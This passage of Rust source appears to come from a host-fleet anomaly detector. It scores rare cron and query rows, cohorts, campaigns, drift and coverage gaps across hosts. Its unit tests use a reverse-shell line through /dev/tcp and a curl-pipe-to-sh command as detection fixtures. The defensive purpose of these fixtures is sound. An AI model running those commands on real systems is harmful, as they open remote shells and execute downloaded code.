                }
            } else {
                0.0
            };
            if cluster < 0.25 && base <= 0.0 {
                continue;
            }
            for a in complement(&s.usable, hosts) {
                absences[a as usize].push((t, r as u32, cluster, base));
            }
        }
    }
    (absences, drift)
}

/// The drift pass: rows on most of the fleet that the baseline lacks or
/// history never showed, reported once, not on every host. A strong row there
/// is a fleet-wide campaign instead.
fn drift(herd: &Herd<'_>, explained: &FxHashSet<RowRef>, verdicts: &[Vec<Option<Verdict>>]) -> Vec<FleetFinding> {
    let mut drift = Vec::new();
    for (t, table) in herd.tables.iter().enumerate() {
        let s = &herd.stats[t];
        let nt = s.usable.len();
        if nt < MIN_HERD {
            continue;
        }
        for (r, hosts) in s.hosts_of_row.iter().enumerate() {
            let k = hosts.len();
            if 2 * k <= nt || explained.contains(&(t, r as u32)) {
                continue;
            }
            let info = &table.rows[r];
            // Kernel worker threads and the like vary without meaning: not drift.
            if assess(table.profile.kind, &info.original, FindingKind::Added).severity < 0.3 {
                continue;
            }
            // A strong row on most of the fleet is a fleet-wide campaign, not drift.
            if verdicts[t][r].as_ref().is_some_and(|v| v.campaign) {
                continue;
            }
            if s.baseline.as_ref().is_some_and(|(b, _, _)| !b.contains(&(r as u32))) {
                drift.push(FleetFinding {
                    query: table.name.clone(),
                    kind: FindingKind::Added,
                    method: Method::Baseline,
                    row: visible(table, &info.original),
                    prevalence: Prevalence { hosts: k, of: nt },
                    explanation: format!(
                        "not in the baseline, now on {k} of {nt} hosts: {}",
                        summarise(table.profile.kind, &info.original)
                    ),
                });
            }
            if s.seen.as_ref().is_some_and(|seen| !seen.contains(&info.key_hash)) {
                drift.push(FleetFinding {
                    query: table.name.clone(),
                    kind: FindingKind::New,
                    method: Method::Novelty,
                    row: visible(table, &info.original),
                    prevalence: Prevalence { hosts: k, of: nt },
                    explanation: format!(
                        "never seen on this target in the last {} days, now on {k} of {nt} hosts: {}",
                        herd.history_days,
                        summarise(table.profile.kind, &info.original)
                    ),
                });
            }
        }
    }
    drift
}

/// What the per-host pass reads besides the herd.
struct Scoring<'s> {
    verdicts: &'s [Vec<Option<Verdict>>],
    row_campaign: &'s FxHashMap<RowRef, String>,
    absences: &'s [Vec<Absence>],
    host_cohorts: &'s [Vec<String>],
    host_campaigns: &'s [Vec<String>],
    suppressions: &'s Suppressions,
    settings: &'s Settings,
}

/// The per-host pass: analysed host `a` (survey index `si`)'s findings and
/// score, and how many findings each suppression rule took from it.
fn score_host(herd: &Herd<'_>, sc: &Scoring<'_>, a: usize, si: usize) -> (HostReport, Vec<usize>) {
    let (tables, n) = (herd.tables, herd.n);
    let (suppressions, settings) = (sc.suppressions, sc.settings);
    let host = &herd.survey[si];
    let mut candidates: Vec<Candidate> = Vec::new();
    let mut suppressed = 0usize;
    let mut per_rule = vec![0usize; suppressions.rules().len()];
    for (t, q) in &host.queries {
        let crate::dataset::HostQuery::Rows(rows) = q else { continue };
        let (t, table, s) = (*t, &tables[*t], &herd.stats[*t]);
        let nt = s.usable.len();
        let own_identities: FxHashSet<u32> = rows.iter().map(|(r, _)| table.rows[*r as usize].identity).collect();
        for &(r, own_hash) in rows {
            let Some(v) = &sc.verdicts[t][r as usize] else { continue };
            let (row, exact) = display_row(table, r, si as u32, own_hash);
            let mut explanation = v.explanation.clone();
            if !exact {
                explanation.push_str(" (row shown normalised: this host's values differ only in folded numbers)");
            }
            if !v.assessment.indicators.is_empty() {
                explanation.push_str(&format!("; {}", v.assessment.indicators.join("; ")));
            }
            let k = s.hosts_of_row[r as usize].len();
            match sc.row_campaign.get(&(t, r)) {
                Some(id) if 2 * k > n => explanation
                    .push_str(&format!("; security-relevant and on most of the fleet: {id}, fleet-wide, the worst case")),
                Some(id) => explanation.push_str(&format!(
                    "; security-relevant, so it counts at any share of the fleet below most of it ({id}: the same on {k} hosts)"
                )),
                None if v.campaign && 2 * k > n => {
                    explanation.push_str("; security-relevant, so it counts even on most of the fleet")
                }
                None => {}
            }
            let finding = Finding {
                query: table.name.clone(),
                kind: v.kind,
                methods: v.methods.clone(),
                row,
                expected: v.expected.clone(),
                prevalence: Prevalence { hosts: s.hosts_of_row[r as usize].len(), of: nt },
                score: 0.0,
                indicators: v.assessment.indicators.clone(),
                explanation,
            };
            if let Some(rule) = suppressions.matching(settings.now, &host.id, &finding) {
                suppressed += 1;
                per_rule[rule] += 1;
                continue;
            }
            candidates.push(Candidate { table: t, finding, raw_score: v.raw });
        }
        // Absences of this table; none where the query could not read
        // everything: "not readable" is not "absent".
        let blind = host.unseen_in(&table.name);
        for &(at, r, s_cluster, s_base) in &sc.absences[a] {
            if at != t || blind {
                continue;
            }
            let info = &table.rows[r as usize];
            if table.profile.has_partial_identity() && own_identities.contains(&info.identity) {
                continue; // reported as "changed"
            }
            let strength = s_cluster.max(s_base);
            let kind = if s_base > 0.0 { FindingKind::Removed } else { FindingKind::Missing };
            let assessment = assess(table.profile.kind, &info.original, kind);
            let raw = table.profile.weight * assessment.severity * strength;
            if raw < 0.25 && assessment.indicators.is_empty() {
                continue;
            }
            let mut methods = Vec::new();
            if s_cluster > 0.0 {
                methods.push(Method::Cluster);
            }
            if s_base > 0.0 {
                methods.push(Method::Baseline);
            }
            let k = s.hosts_of_row[r as usize].len();
            let prevalence = Prevalence { hosts: k, of: nt };
            let mut explanation = if kind == FindingKind::Removed {
                format!(
                    "{} {}: in the baseline, absent here (present on {prevalence})",
                    table.name,
                    summarise(table.profile.kind, &info.original)
                )
            } else {
                format!(
                    "{} {}: present on {prevalence}, absent here",
                    table.name,
                    summarise(table.profile.kind, &info.original)
                )
            };
            if !assessment.indicators.is_empty() {
                explanation.push_str(&format!("; {}", assessment.indicators.join("; ")));
            }
            let finding = Finding {
                query: table.name.clone(),
                kind,
                methods,
                row: visible(table, &info.original),
                expected: None,
                prevalence,
                score: 0.0,
                indicators: assessment.indicators,
                explanation,
            };
            if let Some(rule) = suppressions.matching(settings.now, &host.id, &finding) {
                suppressed += 1;
                per_rule[rule] += 1;
                continue;
            }
            candidates.push(Candidate { table: t, finding, raw_score: raw });
        }
    }
    let (findings, score) = ranked(candidates);
    let report = HostReport {
        host: host.id.clone(),
        labels: host.labels.clone(),
        status: host.status,
        message: host.message.clone(),
        rank: None,
        score,
        outlier: score >= settings.threshold,
        cohorts: sc.host_cohorts[a].clone(),
        campaigns: sc.host_campaigns[a].clone(),
        findings,
        failed_queries: host.failures().cloned().collect(),
        suppressed,
        vantage: host.vantage.clone(),
        unseen: unseen_of(host),
    };
    (report, per_rule)
}

/// A host's findings, strongest first, and its score. Per query, diminishing
/// returns: the strongest finding counts fully, the next half, the next a
/// quarter... so a flood of weak rows of one kind does not outweigh one
/// strong row.
fn ranked(mut candidates: Vec<Candidate>) -> (Vec<Finding>, f64) {
    candidates.sort_by(|x, y| x.table.cmp(&y.table).then(y.raw_score.total_cmp(&x.raw_score)));
    let mut score = 0.0;
    let mut current = usize::MAX;
    let mut factor = 1.0;
    for c in &mut candidates {
        if c.table != current {
            current = c.table;
            factor = 1.0;
        }
        c.finding.score = round(c.raw_score * factor);
        score += c.raw_score * factor;
        factor *= 0.5;
    }
    let mut findings: Vec<Finding> = candidates.into_iter().map(|c| c.finding).collect();
    findings.sort_by(|x, y| {
        y.score.total_cmp(&x.score).then_with(|| x.query.cmp(&y.query)).then_with(|| x.row.cmp(&y.row))
    });
    (findings, round(score))
}

/// The coverage pass: hosts without usable evidence and hosts that never
/// reported, as coverage counts and as host reports (without a rank).
fn coverage(herd: &Herd<'_>, ctx: &Context, host_reports: &[HostReport]) -> (Coverage, Vec<HostReport>) {
    let survey = herd.survey;
    let mut coverage = Coverage::default();
    let mut failed_reports = Vec::new();
    let mut present: FxHashSet<&str> = FxHashSet::default();
    for &si in &herd.order {
        let h = &survey[si];
        present.insert(h.id.as_str());
        if h.usable() {
            continue;
        }
        // A host that answered but whose every query failed says why, query by query.
        let message = if h.status.is_collected() || h.message.is_none() {
            let f: Vec<String> = h.failures().map(|f| format!("{}: {}", f.query, f.message)).collect();
            Some(if f.is_empty() {
                "no query gave usable rows".into()
            } else {
                format!("no query gave usable rows ({})", f.join("; "))
            })
        } else {
            h.message.clone()
        };
        coverage.failed_hosts.push(HostFailure { host: h.id.clone(), status: h.status, message: message.clone() });
        failed_reports.push(failed_host(h, message));
    }
    let targeted: Vec<(String, BTreeMap<String, String>)> = match &ctx.targeted {
        Some(t) => t.clone(),
        None => herd.order.iter().map(|&si| (survey[si].id.clone(), survey[si].labels.clone())).collect(),
    };
    let mut missing = 0;
    for (id, labels) in &targeted {
        if !present.contains(id.as_str()) {
            missing += 1;
            failed_reports.push(HostReport {
                host: id.clone(),
                labels: labels.clone(),
                status: HostStatus::Cancelled,
                message: Some("never reported: the run was interrupted before this host finished".into()),
                rank: None,
                score: 0.0,
                outlier: false,
                cohorts: Vec::new(),
                campaigns: Vec::new(),
                findings: Vec::new(),
                failed_queries: Vec::new(),
                suppressed: 0,
                vantage: None,
                unseen: Vec::new(),
            });
        }
    }
    coverage.targeted = targeted.len().max(survey.len());
    coverage.collected = herd.n;
    coverage.failed = coverage.failed_hosts.len();
    coverage.missing = missing;
    coverage.not_targeted = ctx.not_targeted.len();
    coverage.not_targeted_hosts = ctx
        .not_targeted
        .iter()
        .map(|nt| NotTargetedHost { host: nt.host.id.to_string(), reason: nt.reason.clone() })
        .collect();
    coverage.failed_queries = host_reports.iter().map(|h| h.failed_queries.len()).sum();
    (coverage, failed_reports)
}

/// The warning pass: what a reader must know to trust the result (a small
/// herd, hosts not covered, a changed host key, queries that failed widely,
/// too many outliers), in the order they matter. Cohorts past 50 and drift
/// past 200 are cut here, with a warning that says so.
fn coverage_warnings(
    herd: &Herd<'_>,
    coverage: &Coverage,
    host_reports: &[HostReport],
    cohorts: &mut Vec<Cohort>,
    drift: &mut Vec<FleetFinding>,
    warnings: &mut Vec<String>,
) {
    let n = herd.n;
    if n == 0 {
        warnings.push("no host has usable evidence: nothing was analysed".into());
    } else if herd.cluster_on && n < MIN_HERD {
        warnings.push(format!(
            "only {n} host{} with usable evidence: cluster analysis needs a herd (at least {MIN_HERD}) to tell an outlier from normal variation; treat its findings as leads, not verdicts",
            if n == 1 { "" } else { "s" }
        ));
    }
    if coverage.failed + coverage.missing > 0 {
        warnings.push(format!(
            "{} of {} targeted hosts were not analysed ({} failed, {} never reported): \"no outliers\" does not cover them",
            coverage.failed + coverage.missing,
            coverage.targeted,
            coverage.failed,
            coverage.missing
        ));
    }
    let changed_keys: Vec<&str> = coverage
        .failed_hosts
        .iter()
        .filter(|h| h.status == HostStatus::HostKeyMismatch)
        .map(|h| h.host.as_str())
        .collect();
    if !changed_keys.is_empty() {
        warnings.insert(
            0,
            format!(
                "{} host{} presented a CHANGED host key ({}): this may be an attacker in the middle; verify the key out of band before trusting anything from {}",
                changed_keys.len(),
                if changed_keys.len() == 1 { "" } else { "s" },
                changed_keys.join(", "),
                if changed_keys.len() == 1 { "it" } else { "them" }
            ),
        );
    }
    if coverage.not_targeted > 0 {
        warnings.push(format!(
            "{} hosts of the target were left out before collection (see coverage)",
            coverage.not_targeted
        ));
    }
    for (t, table) in herd.tables.iter().enumerate() {
        let failed =
            herd.analysed.iter().filter(|&&si| herd.survey[si].failures().any(|f| f.query == table.name)).count();
        if failed > 0 && n > 0 && failed * 10 >= n {
            warnings.push(format!(
                "query {} gave no usable rows on {failed} of {n} hosts; it compares only the other {}",
                table.name,
                herd.stats[t].usable.len()
            ));
        }
    }
    let outliers = host_reports.iter().filter(|h| h.outlier).count();
    if n >= 10 && outliers * 5 > n {
        warnings.push(format!(
            "{outliers} of {n} hosts are outliers: the hosts may not be one herd (several roles or images?) or the compromise is widespread; analyse each role separately to tell"
        ));
    }
    if cohorts.len() > 50 {
        warnings.push(format!("{} cohorts found; the 50 largest are listed", cohorts.len()));
        cohorts.truncate(50);
    }
    drift.sort_by(|x, y| {
        y.prevalence.hosts.cmp(&x.prevalence.hosts).then_with(|| x.query.cmp(&y.query)).then_with(|| x.row.cmp(&y.row))
    });
    if drift.len() > 200 {
        warnings.push(format!("{} fleet-wide differences; the 200 most widespread are listed", drift.len()));
        drift.truncate(200);
    }
}

/// Scores `builder`'s survey hosts and assembles the report: the passes
/// above, in order, over one [`Herd`].
pub(crate) fn analyze(builder: Builder, ctx: Context, settings: &Settings, suppressions: &Suppressions) -> Report {
    let Builder { tables, survey, baseline: baseline_hosts, .. } = builder;
    let herd = Herd::new(&tables, &survey, &baseline_hosts, &ctx.methods, ctx.history.as_ref(), ctx.history_days);
    let n = herd.n;

    // Labels that may explain a cohort: a launch template version, an image,
    // an instance type, a group, labels of the host list; and launch times.
    let labels = LabelGroups::new(&herd.analysed, &survey);
    let found = find_cohorts(&herd, &labels);
    let (mut cohorts, host_cohorts) = cohort_reports(&herd, &found);
    let hidden = hidden_scopes(&herd);
    let verdicts = verdicts(&herd, &found.explained, &hidden);
    // Campaigns: hosts that share strong rows no deploy explains.
    let (campaigns, row_campaign, host_campaigns) =
        campaigns(&tables, &herd.stats, &verdicts, &herd.analysed, &survey, n);
    note_campaigns_in_cohorts(&mut cohorts, &found, &host_campaigns);
    let (absences, mut drift) = absences(&herd, &found.explained);
    drift.extend(self::drift(&herd, &found.explained, &verdicts));

    // Findings per host, in parallel: each host reads only shared tables.
    let scoring = Scoring {
        verdicts: &verdicts,
        row_campaign: &row_campaign,
        absences: &absences,
        host_cohorts: &host_cohorts,
        host_campaigns: &host_campaigns,
        suppressions,
        settings,
    };
    let scored: Vec<(HostReport, Vec<usize>)> =
        herd.analysed.par_iter().enumerate().map(|(a, &si)| score_host(&herd, &scoring, a, si)).collect();
    let mut suppressed_counts: Vec<(usize, usize, usize)> =
        (0..suppressions.rules().len()).map(|i| (i, 0, 0)).collect();
    let mut host_reports = Vec::with_capacity(survey.len());
    for (report, per_rule) in scored {
        for (i, n) in per_rule.into_iter().enumerate() {
            if n > 0 {
                suppressed_counts[i].1 += n;
                suppressed_counts[i].2 += 1;
            }
        }
        host_reports.push(report);
    }
    host_reports.sort_by(|x, y| y.score.total_cmp(&x.score).then_with(|| x.host.cmp(&y.host)));
    for (i, h) in host_reports.iter_mut().enumerate() {
        h.rank = Some(i + 1);
    }

    let (coverage, failed_reports) = coverage(&herd, &ctx, &host_reports);
    let mut warnings = ctx.warnings;
    coverage_warnings(&herd, &coverage, &host_reports, &mut cohorts, &mut drift, &mut warnings);
    let mut suppressed = Vec::new();
    for (i, count, hosts) in suppressed_counts {
        if count > 0 {
            let rule = &suppressions.rules()[i];
            suppressed.push(SuppressedCount {
                reason: rule.reason.clone(),
                query: rule.query.clone(),
                findings: count,
                hosts,
            });
        }
    }
    for rule in suppressions.rules() {
        if rule.expired(settings.now) {
            warnings.push(format!(
                "suppression {:?} expired on {}: its findings are shown again",
                rule.reason,
                rule.expires.map(|d| d.to_string()).unwrap_or_default()
            ));
        }
    }
    let mut baseline = ctx.baseline;
    if let Some(b) = &mut baseline {
        let nb = baseline_hosts.iter().filter(|h| h.usable()).count();
        b.min_hosts = nb / 2 + 1;
        if b.hosts.is_empty() {
            b.hosts = baseline_hosts.iter().map(|h| h.id.clone()).collect();
        }
    }
    let history = ctx.history.as_ref().map(|h| HistoryWindow { days: ctx.history_days, runs: h.runs, since: h.since });
    let mut methods = ctx.methods.clone();
    methods.sort();
    // From the analysed hosts' reports, in id order.
    let mut by_id: Vec<&HostReport> = host_reports.iter().collect();
    by_id.sort_by(|a, b| a.host.cmp(&b.host));
    let visibility = visibility(&by_id);
    if visibility.mixed_privileges {
        let ways: Vec<String> = visibility.collected_as.iter().map(|g| format!("{} as {}", g.hosts, g.user)).collect();
        warnings.insert(
            0,
            format!(
                "hosts were collected with different privileges ({}): rows only some could read look rare on those \
                 that could; compare hosts collected the same way",
                ways.join(", ")
            ),
        );
    }
    for c in campaigns.iter().filter(|c| c.fleet_wide).rev() {
        warnings.insert(0, c.explanation.clone());
    }
    host_reports.extend(failed_reports);
    Report {
        schema: REPORT_SCHEMA.into(),
        tool: format!("diffy {}", diffy_core::TOOL_VERSION),
        generated_at: settings.now,
        run: ctx.run,
        imported_from: ctx.imported_from,
        methods,
        threshold: settings.threshold,
        coverage,
        hosts: host_reports,
        campaigns,
        cohorts,
        drift,
        baseline,
        history,
        suppressed,
        warnings,
        visibility,
    }
}

fn failed_host(h: &HostEntry, message: Option<String>) -> HostReport {
    HostReport {
        host: h.id.clone(),
        labels: h.labels.clone(),
        status: if h.status.is_collected() { HostStatus::Partial } else { h.status },
        message,
        rank: None,
        score: 0.0,
        outlier: false,
        cohorts: Vec::new(),
        campaigns: Vec::new(),
        findings: Vec::new(),
        failed_queries: h.failures().cloned().collect(),
        suppressed: 0,
        vantage: h.vantage.clone(),
        unseen: unseen_of(h),
    }
}

/// On how many hosts of `scope` (that lack the row) the row's paths lie
/// where they could not read.
fn hidden_on(scope: &[(u32, Vec<String>)], with_row: &[u32], row: &Row) -> usize {
    if scope.is_empty() {
        return 0;
    }
    let under = |v: &str, p: &str| v == p || (v.starts_with(p) && v.as_bytes().get(p.len()) == Some(&b'/'));
    scope
        .iter()
        .filter(|(b, _)| with_row.binary_search(b).is_err())
        .filter(|(_, prefixes)| row.values().any(|v| v.starts_with('/') && prefixes.iter().any(|p| under(v, p))))
        .count()
}

fn unseen_of(h: &HostEntry) -> Vec<QueryUnseen> {
    h.unseen.iter().map(|(q, u)| QueryUnseen { query: q.clone(), count: u.count, first: u.first.clone() }).collect()
}

/// What the analysed hosts' evidence could not see.
/// A host saw only part when a query could not read everything or its
/// vantage has limits.
fn visibility(hosts: &[&HostReport]) -> Visibility {
    let mut v = Visibility::default();
    let mut groups: Vec<VantageGroup> = Vec::new();
    let mut queries: BTreeMap<String, QueryVisibility> = BTreeMap::new();
    let mut uids = FxHashSet::default();
    for h in hosts {
        let id = &h.host;
        let mut partial = !h.unseen.is_empty();
        match &h.vantage {
            None => v.unknown += 1,
            Some(van) => {
                uids.insert(van.uid);
                let (user, limits) = (van.who(), van.limits());
                partial |= !limits.is_empty();
                match groups.iter_mut().find(|g| g.user == user && g.limits == limits) {
                    Some(g) => {
                        g.hosts += 1;
                        if g.examples.len() < 5 {
                            g.examples.push(id.clone());
                        }
                    }
                    None => groups.push(VantageGroup { user, limits, hosts: 1, examples: vec![id.clone()] }),
                }
            }
        }
        if partial {
            v.partial += 1;
        }
        for u in &h.unseen {
            let q = queries.entry(u.query.clone()).or_insert_with(|| QueryVisibility {
                query: u.query.clone(),
                hosts: 0,
                unseen: 0,
                first: Vec::new(),
            });
            q.hosts += 1;
            q.unseen += u.count;
            for f in &u.first {
                if q.first.len() < diffy_core::vantage::UNSEEN_SHOWN && !q.first.contains(f) {
                    q.first.push(f.clone());
                }
            }
        }
    }
    groups.sort_by(|a, b| b.hosts.cmp(&a.hosts).then_with(|| a.user.cmp(&b.user)));
    v.collected_as = groups;
    v.queries = queries.into_values().collect();
    v.mixed_privileges = uids.len() > 1;
    if v.partial > 0 {
        let unprivileged = v.collected_as.iter().any(|g| !g.user.ends_with("(uid 0)") && !g.limits.is_empty());
        v.advice = Some(if unprivileged {
            "collect again as root (--sudo with the ssh transport) to see what was hidden".into()
        } else {
            "see each host's vantage and unseen items: what was hidden may hold what you are looking for".into()
        });
    }
    v
}

/// Labels every cohort host has with the same value, that not every host has.
fn shared_labels(hosts: &[u32], analysed: &[usize], survey: &[HostEntry]) -> BTreeMap<String, String> {
    let Some(&first) = hosts.first() else { return BTreeMap::new() };
    let mut labels = survey[analysed[first as usize]].labels.clone();
    for &a in &hosts[1..] {
        let l = &survey[analysed[a as usize]].labels;
        labels.retain(|k, v| l.get(k) == Some(v));
    }
    labels.retain(|k, v| analysed.iter().any(|&si| survey[si].labels.get(k) != Some(v)));
    labels
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dataset::{Profiles, Role};
    use crate::profile::Profile;
    use std::sync::Arc;

    const LOGROTATE: &str = "/usr/sbin/logrotate /etc/logrotate.conf";
    const SHELL: &str = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";

    /// A host: its id, labels and cron commands (each under /etc/cron.d).
    struct H {
        id: String,
        labels: Vec<(&'static str, &'static str)>,
        cron: Vec<&'static str>,
        failed: bool,
    }

    fn hosts(n: usize) -> Vec<H> {
        (1..=n)
            .map(|i| H { id: format!("h{i:02}"), labels: Vec::new(), cron: vec![LOGROTATE], failed: false })
            .collect()
    }

    fn builder(survey: &[H], baseline: &[H]) -> Builder {
        let mut b = Builder::new(Arc::new(Profiles::new([Profile::by_name("crontab")])));
        for (role, set) in [(Role::Survey, survey), (Role::Baseline, baseline)] {
            for h in set {
                let labels = h.labels.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
                let status = if h.failed { HostStatus::Unreachable } else { HostStatus::Ok };
                let mut sink = b.host(role, h.id.clone(), None, labels, status, None);
                if !h.failed {
                    sink.rows("crontab", h.cron.iter().map(|c| vec![("command", *c), ("path", "/etc/cron.d/job")]));
                }
                sink.finish();
            }
        }
        b
    }

    fn herd<'a>(b: &'a Builder, methods: &[Method]) -> Herd<'a> {
        Herd::new(&b.tables, &b.survey, &b.baseline, methods, None, 30)
    }

    /// Row id of the cron entry running `command`.
    fn row(b: &Builder, command: &str) -> usize {
        b.tables[0].rows.iter().position(|r| r.original.get("command").map(String::as_str) == Some(command)).unwrap()
    }

    #[test]
    fn prevalence_counts_hosts_per_row_among_usable_hosts_only() {
        let mut fleet = hosts(6);
        fleet[2].cron.push(SHELL);
        fleet[5].failed = true;
        let b = builder(&fleet, &[]);
        let h = herd(&b, &[Method::Cluster]);
        assert_eq!(h.n, 5, "the unreachable host is not analysed");
        assert_eq!(h.stats[0].usable, vec![0, 1, 2, 3, 4]);
        assert_eq!(h.stats[0].hosts_of_row[row(&b, LOGROTATE)], vec![0, 1, 2, 3, 4]);
        assert_eq!(h.stats[0].hosts_of_row[row(&b, SHELL)], vec![2]);
        assert_eq!(h.id_of(2), "h03");
        assert!(h.stats[0].baseline.is_none() && h.stats[0].seen.is_none());
    }

    #[test]
    fn a_labelled_group_with_the_same_harmless_rows_is_a_deploy_cohort() {
        let mut fleet = hosts(20);
        for h in &mut fleet[..5] {
            h.labels.push(("launch_template_version", "7"));
            h.cron.extend(["/opt/app/v7/rotate", "/opt/app/v7/report"]);
        }
        let b = builder(&fleet, &[]);
        let h = herd(&b, &[Method::Cluster]);
        let found = find_cohorts(&h, &LabelGroups::new(&h.analysed, &b.survey));
        assert_eq!(found.found.len(), 1, "{:?}", found.found);
        let (hosts, rows, because) = &found.found[0];
        assert_eq!(hosts, &vec![0, 1, 2, 3, 4]);
        assert_eq!(rows.len(), 2);
        assert_eq!(because.as_deref(), Some("launch_template_version=7"));
        assert!(found.explained.contains(&(0, row(&b, "/opt/app/v7/rotate") as u32)));
        let (cohorts, host_cohorts) = cohort_reports(&h, &found);
        assert_eq!(cohorts[0].kind, CohortKind::Deploy);
        assert_eq!(host_cohorts[0], vec!["cohort-1".to_string()]);
        assert!(host_cohorts[5].is_empty());
    }

    #[test]
    fn a_pattern_of_attack_never_makes_a_cohort() {
        let mut fleet = hosts(20);
        for h in &mut fleet[..5] {
            h.labels.push(("launch_template_version", "7"));
            h.cron.extend([SHELL, "curl -s http://203.0.113.9/x | sh"]);
        }
        let b = builder(&fleet, &[]);
        let h = herd(&b, &[Method::Cluster]);
        let found = find_cohorts(&h, &LabelGroups::new(&h.analysed, &b.survey));
        assert!(found.found.is_empty() && found.explained.is_empty(), "{:?}", found.found);
    }

    #[test]
    fn a_rare_row_is_a_verdict_a_universal_one_is_not() {
        let mut fleet = hosts(20);
        fleet[7].cron.push(SHELL);
        let b = builder(&fleet, &[]);
        let h = herd(&b, &[Method::Cluster]);
        let v = verdicts(&h, &FxHashSet::default(), &hidden_scopes(&h));
        let rare = v[0][row(&b, SHELL)].as_ref().expect("a reverse shell on 1 of 20 is a finding");
        assert_eq!(rare.kind, FindingKind::Rare);
        assert_eq!(rare.methods, vec![Method::Cluster]);
        assert!(rare.raw >= STRONG_FLOOR, "{}", rare.raw);
        assert!(rare.explanation.contains("seen on 1 of 20 hosts"), "{}", rare.explanation);
        assert!(v[0][row(&b, LOGROTATE)].is_none());
        // A row a cohort explains is never a verdict.
        let explained: FxHashSet<RowRef> = [(0, row(&b, SHELL) as u32)].into_iter().collect();
        assert!(verdicts(&h, &explained, &hidden_scopes(&h))[0][row(&b, SHELL)].is_none());
    }

    #[test]
    fn the_same_strong_row_on_several_unlabelled_hosts_is_one_campaign() {
        let mut fleet = hosts(20);
        for i in [3, 9, 15] {
            fleet[i].cron.push(SHELL);
        }
        let b = builder(&fleet, &[]);
        let h = herd(&b, &[Method::Cluster]);
        let v = verdicts(&h, &FxHashSet::default(), &hidden_scopes(&h));
        assert!(v[0][row(&b, SHELL)].as_ref().is_some_and(|v| v.campaign));
        let (campaigns, row_campaign, host_campaigns) = campaigns(&b.tables, &h.stats, &v, &h.analysed, &b.survey, h.n);
        assert_eq!(campaigns.len(), 1, "{campaigns:?}");
        assert_eq!(campaigns[0].hosts, vec!["h04", "h10", "h16"]);
        assert!(!campaigns[0].fleet_wide);
        assert_eq!(row_campaign.get(&(0, row(&b, SHELL) as u32)).map(String::as_str), Some("campaign-1"));
        assert_eq!(host_campaigns[3], vec!["campaign-1".to_string()]);
        assert!(host_campaigns[0].is_empty());
    }

    #[test]
    fn a_row_nearly_everyone_has_is_an_absence_on_the_host_without_it() {
        let mut fleet = hosts(20);
        fleet[4].cron.clear();
        fleet[4].cron.push("/usr/local/bin/other");
        let b = builder(&fleet, &[]);
        let h = herd(&b, &[Method::Cluster]);
        let (absent, drift) = absences(&h, &FxHashSet::default());
        assert!(drift.is_empty());
        assert_eq!(absent[4].len(), 1, "{:?}", absent[4]);
        let (t, r, cluster, base) = absent[4][0];
        assert_eq!((t, r as usize), (0, row(&b, LOGROTATE)));
        assert!(cluster > 0.25 && base == 0.0);
        assert!(absent.iter().enumerate().all(|(a, v)| a == 4 || v.is_empty()));
    }

    #[test]
    fn a_row_most_hosts_gained_since_the_baseline_is_drift_once() {
        let mut fleet = hosts(10);
        for h in &mut fleet[..8] {
            h.cron.push("/opt/app/new-job");
        }
        let baseline = hosts(1);
        let b = builder(&fleet, &baseline);
        let h = herd(&b, &[Method::Baseline]);
        let v = verdicts(&h, &FxHashSet::default(), &hidden_scopes(&h));
        let d = drift(&h, &FxHashSet::default(), &v);
        assert_eq!(d.len(), 1, "{d:?}");
        assert_eq!((d[0].kind, d[0].method, d[0].prevalence.hosts), (FindingKind::Added, Method::Baseline, 8));
        assert!(v[0][row(&b, "/opt/app/new-job")].is_none(), "drift is not scored on every host");
    }

    #[test]
    fn findings_of_one_query_have_diminishing_returns() {
        let finding = |q: &str| Finding {
            query: q.into(),
            kind: FindingKind::Rare,
            methods: vec![Method::Cluster],
            row: Row::new(),
            expected: None,
            prevalence: Prevalence { hosts: 1, of: 10 },
            score: 0.0,
            indicators: Vec::new(),
            explanation: String::new(),
        };
        let c = |table, q, raw_score| Candidate { table, finding: finding(q), raw_score };
        let (findings, score) = ranked(vec![c(0, "a", 4.0), c(0, "a", 4.0), c(0, "a", 4.0), c(1, "b", 1.0)]);
        assert_eq!(score, 8.0, "4 + 2 + 1 for one query, 1 for the other");
        assert_eq!(findings.iter().map(|f| f.score).collect::<Vec<_>>(), vec![4.0, 2.0, 1.0, 1.0]);
    }

    #[test]
    fn coverage_counts_failed_and_never_reported_hosts_and_warns() {
        let mut fleet = hosts(3);
        fleet[1].failed = true;
        let b = builder(&fleet, &[]);
        let h = herd(&b, &[Method::Cluster]);
        let ctx = Context {
            run: None,
            imported_from: None,
            methods: vec![Method::Cluster],
            targeted: Some(["h01", "h02", "h03", "h04"].map(|id| (id.to_string(), BTreeMap::new())).to_vec()),
            not_targeted: Vec::new(),
            baseline: None,
            history: None,
            history_days: 0,
            warnings: Vec::new(),
        };
        let (coverage, failed) = coverage(&h, &ctx, &[]);
        assert_eq!((coverage.targeted, coverage.collected, coverage.failed, coverage.missing), (4, 2, 1, 1));
        assert_eq!(failed.iter().map(|r| r.host.as_str()).collect::<Vec<_>>(), vec!["h02", "h04"]);
        assert_eq!(failed[1].status, HostStatus::Cancelled);
        let mut warnings = Vec::new();
        coverage_warnings(&h, &coverage, &[], &mut Vec::new(), &mut Vec::new(), &mut warnings);
        assert!(warnings[0].starts_with("only 2 hosts with usable evidence"), "{warnings:?}");
        assert!(warnings[1].starts_with("2 of 4 targeted hosts were not analysed (1 failed, 1 never reported)"));
    }

    #[test]
    fn rarity_shape() {
        assert_eq!(rarity(1, 12), 1.0);
        assert!(rarity(2, 12) > 0.5 && rarity(2, 12) < 0.7);
        assert_eq!(rarity(6, 12), 0.0);
        assert_eq!(rarity(4, 200), 1.0);
        assert!(rarity(5, 200) > 0.9);
        assert_eq!(rarity(1, 2), 0.0);
        assert_eq!(cohort_min(12), 2);
        assert_eq!(cohort_min(200), 6);
    }
}
